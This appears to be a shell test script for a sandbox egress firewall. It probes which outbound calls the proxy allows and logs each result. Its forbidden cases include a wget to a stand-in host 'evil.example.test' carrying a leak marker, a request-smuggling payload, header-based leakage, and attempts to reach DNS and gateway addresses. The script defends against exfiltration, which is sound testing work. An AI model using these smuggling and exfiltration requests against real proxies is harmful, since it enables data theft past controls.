#!/bin/sh
# The workload of test/rooms/egress: unmodified busybox clients that call out through the
# firewall (HTTP_PROXY is set by the agent) — what the manifest allows, and everything it does
# not. Each attempt's outcome goes into the report, which only the investigator can read.
R=/data/out/report/report.txt
API="http://api.example.test:$API_PORT/v1"
STATS="http://stats.example.test:$STATS_PORT/in"
say() { echo "$1 $2" >> "$R"; }
# try NAME CMD...: the command's exit status and the first status line it saw.
try() {
  name=$1; shift
  out=$("$@" 2>&1); rc=$?
  line=$(echo "$out" | grep -o 'HTTP/1.1 [0-9][0-9][0-9]' | head -1)
  why=$(echo "$out" | grep -o 'airlock egress: [^"]*' | head -1)
  [ -n "$line" ] || why=$(echo "$out" | head -1 | cut -c1-160)
  say "$name" "rc=$rc ${line:-no-status} $why"
}
# Raw requests to the proxy with nc (its side stays open until the answer has come).
raw() { { printf "$1"; sleep 3; } | timeout 10 nc 127.0.0.1 3128; }
# busybox 1.35's wget sends GET (with the body) through a proxy even with --post-data: its POSTs
# go to the endpoint's host directly (-Y off: /etc/hosts names the agent's listener).

echo "env http_proxy=$http_proxy" > "$R"
# Allowed while PUBLIC: an open POST whose JSON meets the schema.
try open-ok wget -Y off -q -O - --header 'Content-Type: application/json' --post-data '{"count":3}' "$STATS/count"
try open-schema wget -Y off -q -O - --header 'Content-Type: application/json' --post-data '{"count":3,"note":"EGRESS-LEAK"}' "$STATS/count"
try open-deny wget -Y off -q -O - --header 'Content-Type: application/json' --post-data '{"count":3,"secret":1}' "$STATS/count"
# Refused at any scope.
try other-host wget -q -O - "http://evil.example.test/EGRESS-LEAK"
try bad-path wget -q -O - "http://api.example.test:$API_PORT/admin/EGRESS-LEAK"
try too-big wget -Y off -q -O - --header 'Content-Type: application/json' --post-data "$(head -c 70000 /dev/zero | tr '\0' 'x')" "$API/upload"
try impostor wget -q -O - "http://other.example.test:$OTHER_PORT/v1/x"
say method "$(raw "DELETE http://api.example.test:$API_PORT/v1/x HTTP/1.1\r\nhost: api.example.test\r\nconnection: close\r\n\r\n" | head -1)"
say smuggle "$(raw "POST http://api.example.test:$API_PORT/v1/x HTTP/1.1\r\nhost: api.example.test\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\nGET /v1/EGRESS-LEAK HTTP/1.1\r\n\r\n" | head -1)"
say header "$(raw "GET http://api.example.test:$API_PORT/v1/x HTTP/1.1\r\nhost: api.example.test\r\nx-leak: EGRESS-LEAK\r\nconnection: close\r\n\r\n" | head -1)"
say connect "$(raw "CONNECT api.example.test:$API_PORT HTTP/1.1\r\nhost: api.example.test\r\n\r\n" | head -1)"
# No resolver, no route: DNS and the firewall's NIC address are out of reach.
try dns nslookup example.com
try direct-dns wget -q -O - -Y off "http://example.com/"
try nic-address timeout 5 nc 10.0.2.15 80
try gateway timeout 5 nc 10.0.2.2 22
# Allowed: the trusted endpoint (its answer is USER_PRIVATE), through the proxy and through the
# hosts entry (no proxy), then open egress is closed for the rest of the run.
try trusted-get wget -q -O /data/out/report/answer.json "$API/echo"
try trusted-direct wget -q -O - -Y off "http://api.example.test:$API_PORT/v1/direct"
try open-after wget -Y off -q -O - --header 'Content-Type: application/json' --post-data '{"count":4}' "$STATS/count"
echo done >> "$R"
exit 0
